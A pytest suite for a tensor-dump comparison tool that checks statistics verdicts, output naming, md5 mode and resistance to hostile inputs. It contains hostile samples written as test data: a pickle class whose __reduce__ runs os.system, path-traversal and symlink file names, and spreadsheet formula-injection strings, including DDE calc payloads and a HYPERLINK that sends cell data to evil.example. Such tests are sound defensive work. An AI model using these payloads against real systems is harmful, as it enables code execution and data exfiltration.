"""trainprobe compare: verdicts near zero, non-tensor rows, result names, and hostile dumps
(hand-built dump folders: dump.json plus .pt files written with torch.save)."""

from __future__ import annotations

import csv
import json
import os
import pickle
import re
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

import pytest
import torch

from trainprobe.dump.compare import compare_dumps
from trainprobe.dump.compare_metrics import Verdict, statistics_values


def stats_entry(t: torch.Tensor, data_name: str | None = None) -> dict[str, Any]:
    x = t.double()
    entry = {"type": "torch.Tensor", "dtype": str(t.dtype), "shape": list(t.shape), "Max": x.max().item(),
             "Min": x.min().item(), "Mean": x.mean().item(), "Norm": x.norm().item(), "requires_grad": False}  # fmt: skip
    if data_name:
        entry["data_name"] = data_name
    return entry


def write_dump(rank_dir: Path, data: dict[str, Any], task: str = "statistics") -> Path:
    rank_dir.mkdir(parents=True, exist_ok=True)
    (rank_dir / "dump.json").write_text(json.dumps({"task": task, "level": "L1", "data": data}), encoding="utf-8")
    return rank_dir


def table(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return {row["NPU Name"]: row for row in csv.DictReader(fh)}


def test_near_zero_means_pass_and_a_real_change_warns() -> None:
    centred = {"type": "torch.Tensor", "dtype": "torch.float32", "shape": [64, 64], "Max": 3.0, "Min": -3.0,
               "Norm": 64.0}  # fmt: skip
    verdict = Verdict()
    statistics_values({**centred, "Mean": 3e-11}, {**centred, "Mean": -2e-11}, verdict)
    assert verdict.result == "pass", verdict.message
    verdict = Verdict()
    statistics_values({**centred, "Mean": 0.0, "Max": 9.0}, {**centred, "Mean": 0.0}, verdict)
    assert verdict.result == "warning" and "Max magnitude difference" in verdict.message


def test_inf_on_one_side_is_an_error() -> None:
    entry = {"type": "torch.Tensor", "dtype": "torch.float32", "shape": [2], "Max": 1.0, "Min": 0.0, "Mean": 0.5,
             "Norm": 1.0}  # fmt: skip
    verdict = Verdict()
    statistics_values({**entry, "Max": float("inf")}, entry, verdict)
    assert verdict.result == "error"


def test_scalar_and_none_arguments_have_rows_and_a_changed_value_is_found(tmp_path: Path) -> None:
    x = torch.arange(4.0)

    def record(slope: float) -> dict[str, Any]:
        return {"Functional.leaky_relu.0.forward": {
            "input_args": [stats_entry(x), {"type": "float", "value": slope}, None],
            "input_kwargs": {}, "output": [stats_entry(x)]}}  # fmt: skip

    target = write_dump(tmp_path / "t" / "step0" / "rank0", record(0.5))
    golden = write_dump(tmp_path / "g" / "step0" / "rank0", record(0.01))
    [result] = compare_dumps(target.parent, golden.parent, tmp_path / "out")
    rows = table(result.output)
    name = "Functional.leaky_relu.0.forward.input"
    assert list(rows) == [f"{name}.0", f"{name}.1", f"{name}.2", "Functional.leaky_relu.0.forward.output.0"]
    assert rows[f"{name}.1"]["NPU Dtype"] == "<class 'float'>" and rows[f"{name}.1"]["NPU max"] == "0.5"
    assert rows[f"{name}.1"]["Result"] == "warning"
    assert rows[f"{name}.2"]["Result"] == "pass" and rows[f"{name}.2"]["NPU max"] == "N/A"
    assert result.first is not None and result.first.name == f"{name}.1"


def test_result_files_are_named_with_a_timestamp_as_the_reference_names_them(tmp_path: Path) -> None:
    data = {"Torch.relu.0.forward": {"input_args": [stats_entry(torch.ones(2))], "output": []}}
    target = write_dump(tmp_path / "t" / "step0" / "rank0", data)
    golden = write_dump(tmp_path / "g" / "step0" / "rank0", data)
    [one] = compare_dumps(target, golden, tmp_path / "out1")
    [by_rank] = compare_dumps(target.parent, golden.parent, tmp_path / "out2")
    [by_step] = compare_dumps(target.parent.parent, golden.parent.parent, tmp_path / "out3")
    assert re.fullmatch(r"compare_result_\d{14}\.csv", one.output.name)
    assert re.fullmatch(r"compare_result_rank0_\d{14}\.csv", by_rank.output.name)
    assert re.fullmatch(r"compare_result_step0_rank0_\d{14}\.csv", by_step.output.name)


def _tensor_pair(tmp_path: Path, golden_name: str) -> tuple[Path, Path]:
    """Target and golden tensor dumps of two APIs; the golden's first data_name is ``golden_name``
    (hostile), its second is a good file."""
    a, b = torch.arange(4.0), torch.ones(3)
    dirs = []
    for side, first_name in (("t", "Torch.a.0.forward.input.0.pt"), ("g", golden_name)):
        rank = tmp_path / side / "step0" / "rank0"
        (rank / "dump_tensor_data").mkdir(parents=True)
        torch.save(a, rank / "dump_tensor_data" / "Torch.a.0.forward.input.0.pt")
        torch.save(b, rank / "dump_tensor_data" / "Torch.b.0.forward.input.0.pt")
        data = {"Torch.a.0.forward": {"input_args": [stats_entry(a, first_name)], "output": []},
                "Torch.b.0.forward": {"input_args": [stats_entry(b, "Torch.b.0.forward.input.0.pt")], "output": []}}  # fmt: skip
        dirs.append(write_dump(rank, data, task="tensor"))
    return dirs[0], dirs[1]


def _hostile_names(tmp_path: Path) -> dict[str, str]:
    outside = tmp_path / "elsewhere.pt"
    torch.save(torch.arange(4.0), outside)
    return {"absolute": str(outside), "dotdot": "../../../elsewhere.pt", "link": "link.pt", "fifo": "fifo.pt",
            "pickle": "evil.pt", "not_a_tensor": "dict.pt"}  # fmt: skip


class _Evil:
    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, ("echo PWNED > /dev/null",))


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "link", "fifo", "pickle", "not_a_tensor"])
def test_a_hostile_tensor_file_is_that_rows_error_and_the_rest_is_compared(tmp_path: Path, kind: str) -> None:
    name = _hostile_names(tmp_path)[kind]
    target, golden = _tensor_pair(tmp_path, name)
    folder = golden / "dump_tensor_data"
    if kind == "link":
        (folder / "link.pt").symlink_to(tmp_path / "elsewhere.pt")
    elif kind == "fifo":
        os.mkfifo(folder / "fifo.pt")
    elif kind == "pickle":
        (folder / "evil.pt").write_bytes(pickle.dumps(_Evil()))
    elif kind == "not_a_tensor":
        torch.save({"a": 1}, folder / "dict.pt")
    [result] = compare_dumps(target, golden, tmp_path / "out")
    rows = table(result.output)
    assert rows["Torch.a.0.forward.input.0"]["Result"] == "error"
    assert rows["Torch.a.0.forward.input.0"]["Cosine"] == "N/A"
    assert rows["Torch.b.0.forward.input.0"]["Result"] == "pass"
    assert rows["Torch.b.0.forward.input.0"]["Cosine"] == "1.0"


def test_deeply_nested_dump_json_is_one_line_and_exit_2(tmp_path: Path) -> None:
    good = write_dump(tmp_path / "g", {"Torch.relu.0.forward": {"input_args": [stats_entry(torch.ones(2))]}})
    bad = tmp_path / "t"
    bad.mkdir()
    (bad / "dump.json").write_text('{"data": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "trainprobe", "compare", "-tp", str(bad), "-gp", str(good),
                           "-o", str(tmp_path / "out")], capture_output=True, text=True, timeout=120)  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and str(bad / "dump.json") in lines[0]


def test_a_fifo_named_dump_json_is_refused_without_waiting(tmp_path: Path) -> None:
    good = write_dump(tmp_path / "g", {"Torch.relu.0.forward": {"input_args": [stats_entry(torch.ones(2))]}})
    bad = tmp_path / "t"
    bad.mkdir()
    os.mkfifo(bad / "dump.json")
    done = subprocess.run([sys.executable, "-m", "trainprobe", "compare", "-tp", str(bad), "-gp", str(good),
                           "-o", str(tmp_path / "out")], capture_output=True, text=True, timeout=60)  # fmt: skip
    assert done.returncode == 2 and "not a dump" in done.stderr, done.stderr


def test_stack_json_is_grouped_as_the_reference_writes_it_and_read_in_both_layouts() -> None:
    from trainprobe.dump.compare_load import stacks_by_name
    from trainprobe.dump.store import grouped_stacks

    frames_a, frames_b = ["File a.py, line 1, in f"], ["File b.py, line 2, in g"]
    by_name = {"Torch.relu.0.forward": frames_a, "Torch.add.0.forward": frames_b, "Torch.relu.1.forward": frames_a}
    grouped = grouped_stacks(by_name)
    assert grouped == {"0": [["Torch.relu.0.forward", "Torch.relu.1.forward"], frames_a],
                       "1": [["Torch.add.0.forward"], frames_b]}  # fmt: skip
    assert stacks_by_name(grouped) == by_name
    assert stacks_by_name(by_name) == by_name  # an older trainprobe dump


# -- formula injection (issue #27.3) ---------------------------------------------------------
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def _saved_dumps(tmp_path: Path) -> tuple[Path, Path]:
    """Two real debug-level dumps of save() calls named like formulas; the tensors are negative
    (every statistic but the Norm a negative number) and the golden's differ a little."""
    from trainprobe.dump import PrecisionDebugger

    roots = []
    for side, shift in (("t", 0.0), ("g", 0.25)):
        root = tmp_path / side
        debugger = PrecisionDebugger(task="statistics", level="debug", dump_path=str(root))
        for i, name in enumerate(FORMULA_NAMES):
            debugger.save(-torch.arange(1.0, 5.0) - i - shift, name, save_backward=False)
        debugger.step()
        roots.append(root)
    return roots[0], roots[1]


def test_names_that_look_like_formulas_are_text_in_the_csv(tmp_path: Path) -> None:
    target, golden = _saved_dumps(tmp_path)
    [result] = compare_dumps(target, golden, tmp_path / "out")
    with result.output.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    names = [row[header.index("NPU Name")] for row in body]
    assert names == ["'" + n + ".0.debug" for n in FORMULA_NAMES]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or float(cell) < 0, cell  # only negative numbers start with -
    first = dict(zip(header, body[0]))
    assert float(first["NPU max"]) == -1.0 and float(first["Bench min"]) == -4.25  # numbers stay numbers
    assert float(first["Max diff"]) == 0.25


def test_names_that_look_like_formulas_are_text_in_the_xlsx(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    target, golden = _saved_dumps(tmp_path)
    [result] = compare_dumps(target, golden, tmp_path / "out", xlsx=True)
    ws = openpyxl.load_workbook(result.output).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    body = list(ws.iter_rows(min_row=2, values_only=True))
    xml_text = ["'" + n.replace("\r", "\n") + ".0.debug" for n in FORMULA_NAMES]  # XML reads CR as LF
    assert [row[header.index("NPU Name")] for row in body] == xml_text
    first = dict(zip(header, body[0]))
    assert first["NPU max"] == -1.0 and first["Bench min"] == -4.25 and first["Max diff"] == 0.25


def test_as_text_cell_rule() -> None:
    from trainprobe.dump.compare import as_text_cell

    assert [as_text_cell(v) for v in ("=1", "+1x", "-x", "@x", "\tx", "\rx", "a=1", "")] == \
        ["'=1", "'+1x", "'-x", "'@x", "'\tx", "'\rx", "a=1", ""]  # fmt: skip
    assert [as_text_cell(v) for v in (-1.5, -3, "-1.5", "-2e-3", "-inf", "+inf", "nan", None, True)] == \
        [-1.5, -3, "-1.5", "-2e-3", "-inf", "+inf", "nan", None, True]  # fmt: skip


# -- statistics that are not numbers (issue #27.6) -------------------------------------------
@pytest.mark.parametrize("bad", ["abc", True, [1.0], {"v": 1}])
def test_a_statistic_that_is_not_a_number_is_an_error_naming_the_file_and_key(tmp_path: Path, bad: Any) -> None:
    x = torch.arange(4.0)
    good = {"Torch.relu.0.forward": {"input_args": [stats_entry(x)], "output": [stats_entry(x)]}}
    damaged = json.loads(json.dumps(good))
    damaged["Torch.relu.0.forward"]["input_args"][0]["Max"] = bad
    damaged["Torch.relu.0.forward"]["output"][0]["Max"] = "nan"  # a number's text: fine
    target = write_dump(tmp_path / "t" / "step0" / "rank0", damaged)
    golden = write_dump(tmp_path / "g" / "step0" / "rank0", good)
    for t, g, side in ((target, golden, "NPU"), (golden, target, "Bench")):
        [result] = compare_dumps(t, g, tmp_path / f"out_{side}")
        rows = table(result.output)
        row = rows["Torch.relu.0.forward.input.0"]
        assert row["Result"] == "error"
        assert f"{side} {target / 'dump.json'}: Max is not a number ({bad!r}" in row["Err_message"]
        assert row["Max diff"] == "N/A" and row["Min diff"] == "0.0"
        assert "not a number" not in rows["Torch.relu.0.forward.output.0"]["Err_message"]


# -- drop-in: bool tensors and md5 of non-tensor arguments (issue #35.5, #35.6) -------------------
def bool_entry_reference(t: torch.Tensor) -> dict[str, Any]:
    """A bool tensor as the reference dumps it: Max = any, Min = all, no Mean or Norm."""
    return {"type": "torch.Tensor", "dtype": "torch.bool", "shape": list(t.shape), "Max": bool(t.any()),
            "Min": bool(t.all()), "Mean": None, "Norm": None, "requires_grad": False}  # fmt: skip


def test_bool_tensors_of_a_reference_dump_pass_and_compare_with_trainprobes(tmp_path: Path) -> None:
    mask = torch.tensor([True, False, True])
    x = torch.arange(3.0)

    def record(mask_entry: dict[str, Any]) -> dict[str, Any]:
        return {"Torch.where.0.forward": {"input_args": [mask_entry, stats_entry(x), stats_entry(x)],
                                          "input_kwargs": {}, "output": [stats_entry(x)]}}  # fmt: skip

    ref = write_dump(tmp_path / "ref" / "step0" / "rank0", record(bool_entry_reference(mask)))
    ours = write_dump(tmp_path / "tp" / "step0" / "rank0", record(stats_entry(mask)))  # float64 summary
    flipped = write_dump(tmp_path / "flip" / "step0" / "rank0", record(bool_entry_reference(~mask & False)))
    name = "Torch.where.0.forward.input.0"
    for target, golden in ((ref, ref), (ours, ref), (ref, ours)):
        [result] = compare_dumps(target, golden, tmp_path / f"out_{target.parts[-3]}_{golden.parts[-3]}")
        row = table(result.output)[name]
        assert (row["Result"], row["Err_message"]) == ("pass", ""), row
        assert row["Max diff"] == "0.0" and row["Min diff"] == "0.0"
        assert result.first is None
    [result] = compare_dumps(flipped, ref, tmp_path / "out_flip")  # no element true any more: any() changed
    row = table(result.output)[name]
    assert row["Result"] == "warning" and "Max magnitude difference" in row["Err_message"]
    assert result.first is not None and result.first.name == name


def test_a_true_statistic_of_a_float_tensor_is_still_damage(tmp_path: Path) -> None:
    entry = {**stats_entry(torch.arange(3.0)), "Max": True}
    target = write_dump(tmp_path / "t", {"Torch.relu.0.forward": {"input_args": [entry]}})
    [result] = compare_dumps(target, target, tmp_path / "out")
    assert "Max is not a number (True)" in table(result.output)["Torch.relu.0.forward.input.0"]["Err_message"]


def test_md5_mode_finds_a_changed_scalar_argument_as_the_reference_does(tmp_path: Path) -> None:
    x = torch.arange(4.0)

    def record(slope: float) -> dict[str, Any]:
        tensor = {**stats_entry(x), "md5": "0000abcd"}
        return {"Functional.leaky_relu.0.forward": {
            "input_args": [tensor, {"type": "float", "value": slope}, None],
            "input_kwargs": {"inplace": {"type": "bool", "value": False}}, "output": [tensor]}}  # fmt: skip

    target = write_dump(tmp_path / "t" / "step0" / "rank0", record(0.0447))
    golden = write_dump(tmp_path / "g" / "step0" / "rank0", record(0.0316))
    [result] = compare_dumps(target.parent, golden.parent, tmp_path / "out")
    assert result.mode == "md5"
    rows = table(result.output)
    name = "Functional.leaky_relu.0.forward.input"
    slope = rows[f"{name}.1"]
    # the CRC-32 of the value's text; the reference's own compare shows 1b97d47e vs 14a80628
    assert (slope["NPU MD5"], slope["BENCH MD5"]) == ("1b97d47e", "14a80628")
    assert slope["Result"] == "error" and slope["Err_message"] == "checksums differ"
    assert rows[f"{name}.inplace"]["NPU MD5"] == f"{zlib.crc32(b'False'):08x}"
    assert rows[f"{name}.inplace"]["Result"] == "pass"
    assert (rows[f"{name}.2"]["NPU MD5"], rows[f"{name}.2"]["Result"]) == ("N/A", "pass")  # None
    assert rows[f"{name}.0"]["Result"] == "pass"
    assert result.first is not None and result.first.name == f"{name}.1"


def test_scalar_checksums_alone_do_not_make_a_statistics_dump_md5(tmp_path: Path) -> None:
    data = {"Functional.leaky_relu.0.forward": {"input_args": [stats_entry(torch.arange(4.0)),
                                                               {"type": "float", "value": 0.1}]}}  # fmt: skip
    target = write_dump(tmp_path / "t", data)
    [result] = compare_dumps(target, target, tmp_path / "out")
    assert result.mode == "statistics"


def test_baseline_and_candidate_name_the_sides_as_diff_does(tmp_path: Path) -> None:
    """``--candidate``/``--baseline`` are ``-tp``/``-gp`` (the reference's target/golden): the same
    table, the candidate's values in the NPU columns."""
    good = write_dump(tmp_path / "g", {"Torch.relu.0.forward": {"input_args": [stats_entry(torch.ones(2))]}})
    bad = write_dump(tmp_path / "t", {"Torch.relu.0.forward": {"input_args": [stats_entry(torch.full((2,), 3.0))]}})
    outputs = []
    for flags in (["-tp", str(bad), "-gp", str(good)], ["--candidate", str(bad), "--baseline", str(good)]):
        out = tmp_path / f"out{len(outputs)}"
        done = subprocess.run([sys.executable, "-m", "trainprobe", "compare", *flags, "-o", str(out)],
                              capture_output=True, text=True, timeout=120)  # fmt: skip
        assert done.returncode == 0, done.stderr
        (table,) = out.glob("*.csv")
        outputs.append(table.read_text(encoding="utf-8"))
    assert outputs[0] == outputs[1] and "3.0" in outputs[0].splitlines()[1]
